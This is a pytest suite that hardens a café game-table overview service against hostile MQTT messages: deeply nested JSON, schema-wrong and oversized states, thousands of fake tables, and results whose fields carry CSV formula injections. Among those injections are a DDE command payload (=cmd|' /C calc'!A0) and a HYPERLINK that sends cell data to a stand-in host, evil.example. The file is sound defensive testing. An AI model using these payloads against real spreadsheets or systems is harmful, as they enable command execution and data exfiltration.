"""The café overview against its broker's worst messages (issue 25), with a real Mosquitto, a real
`tablesight cafe` process and Chromium: a retained JSON nested 100,000 deep, every schema-wrong
state the issue lists, ten 8 MB states, 3,000 fake tables, hostile results. The real tables stay
drawn and live, each bad table's tile says its report could not be read, what the overview keeps
stays within its documented limits (docs/mqtt.md), and the CSV of a hostile result is text."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import paho.mqtt.client as mqtt
import pytest
from fastapi.testclient import TestClient
from paho.mqtt.enums import CallbackAPIVersion
from serving import free_port

from cafe.broker import Mosquitto
from cafe.overview import Limits, Overview, create_app
from cafe.simulate import SimulatedTable
from kiosk.mqtt.payloads import read_state
from kiosk.mqtt.publisher import summary
from kiosk.seats import PlayerSeat
from kiosk.settings import MqttSettings

LIMITS = Limits()
"""The defaults the café runs with (``tablesight cafe`` with no --max-… flag)."""
DEEP = "[" * 100_000 + "]" * 100_000
"""The issue's message: 200,000 bytes of nesting."""
DEEP_SMALL = "[" * 8_000 + "]" * 8_000
"""Nesting that fits the size limit, so that it reaches the parser."""
FAKES = 3000
SHOTS = Path(__file__).resolve().parents[2] / "out" / "screenshots"
UNREADABLE = {"en": "This table's report could not be read", "zh": "无法读取本桌的报告"}


def wrong(state: dict[str, Any], name: str, **fields: Any) -> str:
    """A real table's state summary under another name, with some fields made wrong."""
    return json.dumps({**state, "table": name, **fields})


def bad_states(state: dict[str, Any]) -> dict[str, str]:
    """Every schema-wrong state of the issue, by the table it is published for."""
    alert = {"kind": "camera_lost", "detail": "x"}
    return {
        "x": DEEP,
        "deep-small": DEEP_SMALL,
        "empty": "{}",
        "phase-null": wrong(state, "phase-null", phase=None),
        "players-5": wrong(state, "players-5", players=5),
        "alerts-object": wrong(state, "alerts-object", alerts={}),
        "alerts-null": wrong(state, "alerts-null", alerts=[None]),
        "alert-kind-3": wrong(state, "alert-kind-3", alerts=[{**alert, "kind": 3}]),
        "players-null": wrong(state, "players-null", players=[None]),
        "hex-script": wrong(
            state, "hex-script", players=[{**state["players"][0], "hex": "red;x:url(//a)"}]
        ),
        "not-utf8": "\udcff",
    }


HOSTILE_RESULTS = [
    {"save": "a", "players": [1]},
    {"winners": 5},
    {"players": "abc"},
    {"ended": {}},
]


def publisher(broker: Mosquitto) -> mqtt.Client:
    """A client with an account on the broker, as the attacker has."""
    client = mqtt.Client(CallbackAPIVersion.VERSION2, protocol=mqtt.MQTTv311)
    client.connect("127.0.0.1", broker.port)
    client.loop_start()
    return client


def send(client: mqtt.Client, topic: str, payload: str | bytes, retain: bool = True) -> None:
    """Publish with QoS 1 and wait for the broker's acknowledgement."""
    data = payload.encode("utf-8", "surrogateescape") if isinstance(payload, str) else payload
    client.publish(topic, data, qos=1, retain=retain).wait_for_publish(30)


def start_cafe(broker: Mosquitto, data: Path, log: Path) -> tuple[subprocess.Popen[bytes], str]:
    """A real `tablesight cafe` (English) with the default limits; its stderr in ``log``."""
    port = free_port()
    cmd = [sys.executable, "-m", "kiosk.cli", "--data-dir", str(data), "--lang", "en"]
    cmd += ["cafe", "--mqtt", broker.url, "--port", str(port)]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    with log.open("ab") as err:
        proc = subprocess.Popen(cmd, stderr=err, env=env)
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 30
    while True:
        if proc.poll() is not None:
            raise AssertionError(f"tablesight cafe exited: {log.read_text()}")
        try:
            urllib.request.urlopen(f"{url}/healthz", timeout=1).close()
            return proc, url
        except OSError:
            if time.monotonic() > deadline:
                proc.kill()
                raise AssertionError("tablesight cafe did not answer within 30 s") from None
            time.sleep(0.1)


def rss_mib(pid: int) -> float:
    """The resident memory of a process, MiB (a figure, printed)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return float("nan")


def health(url: str) -> dict[str, Any]:
    answer = httpx.get(f"{url}/healthz", timeout=10)
    assert answer.status_code == 200, answer.text
    data: dict[str, Any] = answer.json()
    return data


def csv_rows(url: str) -> list[dict[str, str]]:
    answer = httpx.get(f"{url}/results.csv?lang=en", timeout=10)
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


@pytest.fixture(scope="module")
def attacked(
    broker: Mosquitto, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[dict[str, Any]]:
    """Two real tables, a `tablesight cafe`, then every hostile message of the issue."""
    folder = tmp_path_factory.mktemp("hostile")
    seats = [PlayerSeat("Alice", "red"), PlayerSeat("Bob", "blue")]
    sims = {
        name: SimulatedTable(name, folder / name, broker.url, game=game, seed=i, seats=seats)
        for i, (name, game) in enumerate((("real-1", "greenwood"), ("real-2", "dont_starve")))
    }
    for sim in sims.values():
        sim.start()
        sim.move()
    log = folder / "cafe.log"
    proc, url = start_cafe(broker, folder / "cafe", log)
    made: dict[str, Any] = {"proc": proc}
    client = publisher(broker)
    try:
        wait_tables(url, {"real-1", "real-2"})
        figures = {"rss_before_mib": rss_mib(proc.pid)}
        state = summary(sims["real-1"].table, "real-1", None, 0, 1)
        bad = bad_states(state)
        for name, payload in bad.items():
            send(client, f"tablesight/{name}/state", payload)
        huge = json.dumps({**state, "next": {"zh": "x" * 8_000_000, "en": "x"}})
        for k in range(10):
            send(client, f"tablesight/huge-{k}/state", huge)
        for k in range(FAKES):
            client.publish(f"tablesight/fake-{k:04d}/state", wrong(state, f"fake-{k:04d}"), 1, True)
        send(client, "tablesight/fake-last/state", wrong(state, "fake-last"))
        evil = hostile_result(state)
        for k, fields in enumerate(HOSTILE_RESULTS):
            row = {**evil, "table": "real-2", **fields, "save": f"h{k}"}
            send(client, "tablesight/real-2/result", json.dumps(row))
        send(client, "tablesight/evil/result", json.dumps(evil))
        made.update(
            {
                "url": url,
                "proc": proc,
                "sims": sims,
                "bad": bad,
                "evil": evil,
                "figures": figures,
                "log": log,
                "data": folder / "cafe",
                "broker": broker,
            }
        )
        yield made
    finally:
        client.disconnect()
        client.loop_stop()
        proc = made["proc"]  # the restart test starts a new one
        if proc.poll() is None:
            proc.terminate()
            proc.wait(timeout=30)
        for sim in sims.values():
            sim.stop()


def hostile_result(state: dict[str, Any]) -> dict[str, Any]:
    """A result that fits the schema, with cells a spreadsheet would run as formulas."""
    return {
        "v": 1,
        "table": "evil",
        "save": "=1+2",
        "game": "greenwood",
        "title": {"zh": '=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "en": "=1+2"},
        "ended": "@SUM(A1:A9)",
        "result": "win",
        "winners": [{"zh": "=cmd|' /C calc'!A0", "en": "=cmd|' /C calc'!A0"}],
        "players": [
            {"name": {"zh": "-2+3", "en": "-2+3"}, "colour": "red", "score": 5},
            {"name": {"zh": "\tx", "en": "\tx"}, "colour": "blue", "score": None},
        ],
        "moves": 3,
        "rounds": 1,
    }


def wait_tables(url: str, names: set[str], timeout: float = 60) -> dict[str, Any]:
    """Wait until the overview has every table in ``names``; its snapshot."""
    deadline = time.monotonic() + timeout
    while True:
        snap: dict[str, Any] = httpx.get(f"{url}/api/tables", timeout=30).json()
        if names <= {t["name"] for t in snap["tables"]}:
            return snap
        if time.monotonic() > deadline:
            raise AssertionError(
                f"waited {timeout} s for {names - {t['name'] for t in snap['tables']}}"
            )
        time.sleep(0.2)


def test_the_overview_keeps_its_tables_and_its_limits_under_attack(
    attacked: dict[str, Any], wait: Any
) -> None:
    url, sims, bad = attacked["url"], attacked["sims"], attacked["bad"]
    # every bad state and huge one is dropped and its table's tile says so; the fakes take
    # the tiles left (2 real tables, the bad and the huge ones came first), the rest dropped
    shown = 2 + len(bad) + 10
    dropped = len(bad) + 10 + (FAKES + 1 - (LIMITS.tables - shown)) + len(HOSTILE_RESULTS)
    health_now = wait(lambda: (h := health(url))["dropped"] == dropped and h, what="the drops")
    snap = wait_tables(url, {"real-1", "real-2", *bad})
    assert health_now["status"] == "ok" and health_now["subscriber"] is True

    tiles = {t["name"]: t for t in snap["tables"]}
    for name in bad:
        assert tiles[name]["unreadable"] is True and tiles[name]["state"] is None, name
    for name in ("real-1", "real-2"):
        assert tiles[name]["unreadable"] is False
        read_state(json.dumps(tiles[name]["state"]), name)

    # the limits (docs/mqtt.md): the tables shown, what is kept, what is served
    assert len(snap["tables"]) == LIMITS.tables, "the 3,000 fake tables stop at the limit"
    assert "fake-last" not in tiles
    kept = health_now["kept_bytes"]
    bound = LIMITS.tables * LIMITS.payload + LIMITS.results * LIMITS.payload
    assert kept <= bound
    for tile in snap["tables"]:
        size = len(json.dumps(tile["state"], ensure_ascii=False, separators=(",", ":")).encode())
        assert size <= LIMITS.payload, tile["name"]
    served = len(httpx.get(f"{url}/api/tables", timeout=30).content)
    assert served <= LIMITS.tables * (LIMITS.payload + 1024)
    attacked["figures"].update(
        rss_after_mib=rss_mib(attacked["proc"].pid),
        kept_bytes=kept,
        api_tables_bytes=served,
        dropped=health_now["dropped"],
        tables=len(snap["tables"]),
    )

    # it keeps hearing: a move at a real table reaches the overview after all that
    before = tiles["real-1"]["state"]["moves"]
    sims["real-1"].move()

    def moved() -> bool:
        tables = httpx.get(f"{url}/api/tables", timeout=30).json()["tables"]
        return any(t["name"] == "real-1" and t["state"]["moves"] > before for t in tables)

    wait(moved, what="real-1's next move on the overview")
    print(f"\ncafé under attack (tablesight cafe, default limits): {attacked['figures']}")


@pytest.mark.browser
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_page_draws_the_real_tables_and_says_which_report_is_unreadable(
    attacked: dict[str, Any], browser: Any, lang: str
) -> None:
    url, sims, bad = attacked["url"], attacked["sims"], attacked["bad"]
    wait_tables(url, {"real-1", "real-2", *bad})
    SHOTS.mkdir(parents=True, exist_ok=True)
    context = browser.new_context(viewport={"width": 1920, "height": 1080})
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.add_init_script(f"localStorage.setItem('tablesight.cafe.lang', '{lang}')")
    try:
        page.goto(url)
        page.wait_for_selector(".tile[data-table='real-1']", timeout=30_000)
        for name in ("real-1", "real-2"):
            real = page.locator(f".tile[data-table='{name}']")
            assert real.get_attribute("data-level") == "none"
            title = sims[name].table.status(lang)["title"]
            assert title in real.inner_text()
            assert UNREADABLE[lang] not in real.inner_text()
        for name in bad:
            tile = page.locator(f".tile[data-table='{name}']")
            assert tile.get_attribute("data-level") == "unreadable", name
            assert UNREADABLE[lang] in tile.inner_text(), name
        assert page.locator(".tile").count() == LIMITS.tables
        assert errors == [], "the page's script never throws on a bad tile"
        # live: a real table's camera lost and found, drawn next to the unreadable tiles
        sims["real-2"].table.set_link("camera", "lost", "no frame for 5 s")
        page.wait_for_selector(".tile[data-table='real-2'][data-level='lost']", timeout=20_000)
        sims["real-2"].table.set_link("camera", "ok", "")
        page.wait_for_selector(".tile[data-table='real-2'][data-level='none']", timeout=20_000)
        page.screenshot(path=str(SHOTS / f"cafe-hostile-1920-{lang}.png"))
        assert errors == []
    finally:
        context.close()


def test_the_csv_of_a_hostile_result_is_text(attacked: dict[str, Any], wait: Any) -> None:
    url = attacked["url"]
    rows = wait(lambda: [r for r in csv_rows(url) if r["table"] == "evil"], what="evil's row")
    assert len(rows) == 1
    row = rows[0]
    assert row["save"] == "'=1+2"
    assert row["game"] == "'=1+2"
    assert row["ended (UTC)"] == "'@SUM(A1:A9)"
    assert row["winners"] == "'=cmd|' /C calc'!A0"
    assert row["players and scores"] == "'-2+3 5; \tx"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    zh = httpx.get(f"{url}/results.csv?lang=zh", timeout=10).content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in zh and ",=HYPERLINK(" not in zh
    saves = {r["save"] for r in csv_rows(url)}
    assert not saves & {f"h{k}" for k in range(len(HOSTILE_RESULTS))}, "bad results dropped"


def test_a_restart_reads_back_what_it_kept_and_skips_a_bad_row(
    attacked: dict[str, Any], wait: Any
) -> None:
    wait(lambda: [r for r in csv_rows(attacked["url"]) if r["table"] == "evil"], what="evil")
    proc = attacked["proc"]
    proc.terminate()
    proc.wait(timeout=30)
    results = attacked["data"] / "cafe-results.jsonl"
    kept = results.read_text(encoding="utf-8").splitlines()
    assert len(kept) == 1, "only the result that fits was written"
    with results.open("a", encoding="utf-8") as out:
        for fields in HOSTILE_RESULTS:
            out.write(json.dumps({**attacked["evil"], **fields}) + "\n")
        out.write("{" * 50_000 + "\n")
    proc, url = start_cafe(attacked["broker"], attacked["data"], attacked["log"])
    attacked["proc"], attacked["url"] = proc, url
    rows = csv_rows(url)
    assert [r["table"] for r in rows] == ["evil"]
    said = attacked["log"].read_text(encoding="utf-8", errors="replace")
    assert "skipped 5 unreadable result(s)" in said
    assert results.read_text(encoding="utf-8").splitlines() == kept, "the file written anew"
    # every retained message comes again at the start, the 3,000 fakes in the broker's order:
    # the overview hears on, and a real table that speaks takes the place of a fake
    wait(lambda: health(url)["tables"] == LIMITS.tables, what="the tables again")
    attacked["sims"]["real-1"].move()
    wait_tables(url, {"real-1"})
    assert health(url)["subscriber"] is True and health(url)["dropped"] > 0


# --- in this process: the subscriber's own thread ---------------------------------------------


@pytest.fixture
def fresh(broker: Mosquitto, tmp_path: Path) -> Iterator[Mosquitto]:
    """A Mosquitto of the test's own (without the attack's retained messages)."""
    server = Mosquitto(tmp_path / "fresh-broker").start()
    try:
        yield server
    finally:
        server.stop()


def test_the_issues_deep_message_read_through_does_not_stop_the_subscriber(
    fresh: Mosquitto, wait: Any
) -> None:
    broker = fresh
    big = Limits(payload=1 << 20)  # large enough for the 200,000 bytes to reach the parser
    overview = Overview(MqttSettings(url=broker.url), limits=big)
    client = publisher(broker)
    overview.start()
    try:
        send(client, "tablesight/deep-read/state", DEEP)
        wait(lambda: (t := overview.tile("deep-read")) and t["unreadable"], what="its tile")
        send(client, "tablesight/after-it/status", "online", retain=False)
        wait(lambda: overview.tile("after-it"), what="the next message")
        assert overview.subscribing()
    finally:
        overview.stop()
        client.publish("tablesight/deep-read/state", b"", 1, True).wait_for_publish(10)
        client.disconnect()
        client.loop_stop()


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_healthz_says_when_the_subscriber_died(fresh: Mosquitto, wait: Any) -> None:
    broker = fresh
    overview = Overview(MqttSettings(url=broker.url))
    app = TestClient(create_app(overview, "en"))
    client = publisher(broker)
    overview.start()
    died = threading.Event()
    try:
        wait(overview.connected.is_set, what="the broker")
        assert app.get("/healthz").json()["status"] == "ok"

        def boom(*_: Any) -> None:  # what a callback that lets an error out does to paho
            died.set()
            raise RecursionError("maximum recursion depth exceeded")

        overview.client.on_message = boom
        send(client, "tablesight/any/status", "online", retain=False)
        wait(died.is_set, what="the callback to raise")
        wait(lambda: not overview.subscribing(), what="paho's thread to end")
        answer = app.get("/healthz")
        assert answer.status_code == 503
        assert answer.json()["status"] == "failing" and answer.json()["subscriber"] is False
    finally:
        overview.stop()
        client.disconnect()
        client.loop_stop()


def test_results_beyond_the_limit_drop_the_oldest(
    fresh: Mosquitto, tmp_path: Path, wait: Any, caplog: pytest.LogCaptureFixture
) -> None:
    broker = fresh
    overview = Overview(MqttSettings(url=broker.url), tmp_path, limits=Limits(results=5))
    client = publisher(broker)
    overview.start()
    state = {"table": "many"}
    try:
        evil = {**hostile_result(state), "table": "many"}
        for k in range(12):
            send(client, "tablesight/many/result", json.dumps({**evil, "save": f"s{k:02d}"}))
        wait(
            lambda: "/many/s11" in overview.results, what="the last result"
        )  # (no id: site/table/save)
        assert list(overview.results) == [f"/many/s{k:02d}" for k in range(7, 12)]
        rows = (tmp_path / "cafe-results.jsonl").read_text().splitlines()
        assert len(rows) <= 2 * 5, "the file is written anew past twice the limit"
    finally:
        overview.stop()
        client.publish("tablesight/many/result", b"", 1, True).wait_for_publish(10)
        client.disconnect()
        client.loop_stop()
    again = Overview(MqttSettings(url=broker.url), tmp_path, limits=Limits(results=5))
    assert list(again.results) == [f"/many/s{k:02d}" for k in range(7, 12)]
    assert len((tmp_path / "cafe-results.jsonl").read_text().splitlines()) == 5
    with caplog.at_level(logging.WARNING):
        assert "skipped" not in caplog.text
